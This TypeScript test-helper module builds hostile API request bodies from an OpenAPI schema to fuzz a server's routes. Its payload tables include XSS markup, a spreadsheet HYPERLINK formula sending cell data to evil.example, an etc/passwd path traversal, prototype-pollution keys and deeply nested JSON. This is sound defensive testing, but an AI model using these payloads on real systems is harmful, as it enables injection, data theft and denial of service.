// Hostile input for the route walker (src/server/hostile-routes.test.ts): the values an
// attacker or a broken client sends, and plausible request bodies built from a route's JSON
// schema (the OpenAPI document), so each hostile value lands in one field of an otherwise
// valid request and reaches as deep into the handler as it can.

export type JsonSchema = Record<string, any>;
export type Path = (string | number)[];

/** Text values for a string field of a JSON body or a query parameter. */
export const HOSTILE_TEXT: Record<string, string> = {
  nul: 'before\u0000after',
  'lone high surrogate': 'before\ud800after',
  'lone low surrogate': '\udc00',
  '100 kB': 'x'.repeat(100_000),
  markup: '<script>alert(1)</script><img src=x onerror=alert(2)>',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
};

/** The same, as raw bytes of a URL path segment or query value (already percent-encoded). */
export const HOSTILE_URL: Record<string, string> = {
  nul: 'a%00b',
  // A lone surrogate has no UTF-8 form; this is its CESU-8 bytes, which decoders must refuse or replace.
  'lone surrogate bytes': 'a%ED%A0%80b',
  'truncated UTF-8': 'a%F0%9F',
  'broken escape': 'a%zz%',
  '5,000 characters': 'x'.repeat(5_000),
  '100 kB': 'x'.repeat(100_000),
  markup: encodeURIComponent('<script>alert(1)</script>'),
  formula: encodeURIComponent('=HYPERLINK("http://evil.example","x")'),
  'not an id': 'not-a-uuid',
  'dot segments': '..%2F..%2Fetc%2Fpasswd',
};

/** Object keys for maps (a contact's properties, a template's defaults). */
export const HOSTILE_KEYS: Record<string, string> = {
  'nul key': 'k\u0000',
  'lone surrogate key': 'k\ud800',
  __proto__: '__proto__',
  constructor: 'constructor',
  'long key': 'k'.repeat(10_000),
};

/** Values of another type than the field's. */
export const WRONG_TYPES: Record<string, unknown> = {
  number: 12345,
  object: { nested: [1, { deeper: null }] },
  array: ['a', 1, null],
};

/** Field values as raw JSON text (too deep to build as a value and stringify). */
export const RAW_FIELD_VALUES: Record<string, string> = {
  'nested 5,000 deep': '{"a":['.repeat(2_500) + '1' + ']}'.repeat(2_500),
};

const PLACEHOLDER = '\u0001raw\u0001';

/** JSON text of `value` with the value at `path` replaced by raw JSON text. */
export function jsonWithRaw(value: unknown, path: Path, raw: string): string {
  return JSON.stringify(withValue(value, path, PLACEHOLDER)).replace(JSON.stringify(PLACEHOLDER), raw);
}

/** Whole bodies that are not what any route expects (raw JSON text). */
export const HOSTILE_BODIES: Record<string, string> = {
  'an array': '[]',
  'a string': '"text"',
  'a number': '42',
  null: 'null',
  'arrays nested 10,000 deep': '['.repeat(10_000) + ']'.repeat(10_000),
  'objects nested 10,000 deep': '{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000),
  'NUL escape in a key': '{"k\\u0000":1}',
  // The tracking API cleans such text with a reviver, which recurses.
  'nested 10,000 deep with a NUL escape': '{"n":"\\u0000","d":' + '['.repeat(10_000) + ']'.repeat(10_000) + '}',
};

/** JSON nested far deeper than any request needs, as text (for query values that hold JSON). */
export const DEEP_JSON_TEXT = '['.repeat(9_000) + ']'.repeat(9_000);

/** Plausible strings tried in turn against a pattern; the first that matches is used. */
const PATTERN_SAMPLES = ['x', 'note', 'walker', 'GBP', 'contact.first_name', 'walker@example.com', '127.0.0.1', 'a1', '2025-01-02'];

export interface PlausibleHints {
  /** A value for a field of this name, whatever its schema says (ids of fixtures, known fields). */
  byName: Record<string, unknown>;
}

export function resolver(doc: JsonSchema): (schema: JsonSchema) => JsonSchema {
  return (schema) => {
    let s = schema;
    for (let i = 0; s?.$ref && i < 10; i++) {
      const parts = String(s.$ref).replace(/^#\//, '').split('/');
      s = parts.reduce<any>((at, key) => at?.[key], doc);
    }
    return s ?? {};
  };
}

/** The options of a union (anyOf / oneOf), nulls last; a schema without one is its own only option. */
export function options(schema: JsonSchema): JsonSchema[] {
  const union = (schema.anyOf ?? schema.oneOf) as JsonSchema[] | undefined;
  if (!union) return [schema];
  return [...union].sort((a, b) => Number(a.type === 'null') - Number(b.type === 'null'));
}

/** A valid-looking value for a schema: every listed property filled in, unions by their first option. */
export function plausible(schema: JsonSchema, resolve: (s: JsonSchema) => JsonSchema, hints: PlausibleHints, name = '', depth = 0): unknown {
  if (name in hints.byName) return hints.byName[name];
  const s = resolve(schema);
  if (s.const !== undefined) return s.const;
  if (Array.isArray(s.enum)) return s.enum[0];
  if (s.anyOf || s.oneOf) return plausible(options(s)[0]!, resolve, hints, name, depth);
  if (s.default !== undefined && typeof s.default !== 'object') return s.default;
  const type = Array.isArray(s.type) ? s.type.find((t: string) => t !== 'null') : s.type;
  switch (type) {
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const [key, prop] of Object.entries((s.properties ?? {}) as Record<string, JsonSchema>)) {
        if (depth > 6 && !s.required?.includes(key)) continue;
        out[key] = plausible(prop, resolve, hints, key, depth + 1);
      }
      if (!s.properties && s.additionalProperties && typeof s.additionalProperties === 'object') {
        const key = sampleString(resolve(s.propertyNames ?? {}), 'note');
        out[key] = plausible(s.additionalProperties, resolve, hints, key, depth + 1);
      }
      return out;
    }
    case 'array': {
      const item = plausible(s.items ?? {}, resolve, hints, name, depth + 1);
      return Array.from({ length: Math.max(1, s.minItems ?? 1) }, () => item);
    }
    case 'string':
      return sampleString(s, 'plain text');
    case 'integer':
    case 'number':
      return typeof s.minimum === 'number' ? s.minimum : typeof s.exclusiveMinimum === 'number' ? s.exclusiveMinimum + 1 : 1;
    case 'boolean':
      return true;
    case 'null':
      return null;
    default:
      return 'plain text';
  }
}

function sampleString(s: JsonSchema, fallback: string): string {
  if (s.format === 'uuid') return '01a206a7-2d0a-790a-b933-c4c4833a7dfd';
  if (s.format === 'email') return 'walker@example.com';
  if (s.format === 'date-time') return '2025-01-02T03:04:05Z';
  if (s.format === 'date') return '2025-01-02';
  let value = fallback;
  if (typeof s.pattern === 'string') {
    const re = new RegExp(s.pattern, 'u');
    value = PATTERN_SAMPLES.find((c) => re.test(c)) ?? fallback;
  }
  if (typeof s.minLength === 'number' && value.length < s.minLength) value = value.padEnd(s.minLength, 'x');
  if (typeof s.maxLength === 'number' && value.length > s.maxLength) value = value.slice(0, s.maxLength);
  return value;
}

export interface Slot {
  path: Path;
  /** A string value, or a key of a map (an object without fixed properties). */
  kind: 'string' | 'key';
}

/** Where hostile text can go in a plausible value: its strings and the keys of its maps. */
export function slots(value: unknown, path: Path = []): Slot[] {
  if (typeof value === 'string') return [{ path, kind: 'string' }];
  if (Array.isArray(value)) return value.flatMap((v, i) => slots(v, [...path, i]));
  if (value && typeof value === 'object') {
    return Object.entries(value).flatMap(([k, v]) => slots(v, [...path, k]));
  }
  return [];
}

/** Map-like objects (keys chosen by the client) in a schema's plausible value, by path. */
export function mapPaths(schema: JsonSchema, resolve: (s: JsonSchema) => JsonSchema, path: Path = [], depth = 0): Path[] {
  const s = resolve(schema);
  if (depth > 8) return [];
  if (s.anyOf || s.oneOf) return mapPaths(options(s)[0]!, resolve, path, depth + 1);
  if (s.type === 'object' && !s.properties && s.additionalProperties && typeof s.additionalProperties === 'object') return [path];
  if (s.type === 'object' && s.properties) {
    return Object.entries(s.properties as Record<string, JsonSchema>).flatMap(([k, p]) => mapPaths(p, resolve, [...path, k], depth + 1));
  }
  if (s.type === 'array' && s.items) return mapPaths(s.items, resolve, [...path, 0], depth + 1);
  return [];
}

/** A deep copy of `value` with the value at `path` replaced. */
export function withValue(value: unknown, path: Path, replacement: unknown): unknown {
  if (path.length === 0) return replacement;
  const copy: any = structuredClone(value);
  let at = copy;
  for (const key of path.slice(0, -1)) at = at[key];
  at[path[path.length - 1]!] = replacement;
  return copy;
}

/** A deep copy of `value` with one more key in the object at `path`. */
export function withKey(value: unknown, path: Path, key: string): unknown {
  const copy: any = structuredClone(value);
  let at = copy;
  for (const k of path) at = at[k];
  // defineProperty, so that "__proto__" becomes an own key (JSON.stringify then sends it).
  Object.defineProperty(at, key, { value: 'v', enumerable: true, configurable: true, writable: true });
  return copy;
}

export const pathText = (path: Path) => (path.length === 0 ? '(body)' : path.join('.'));
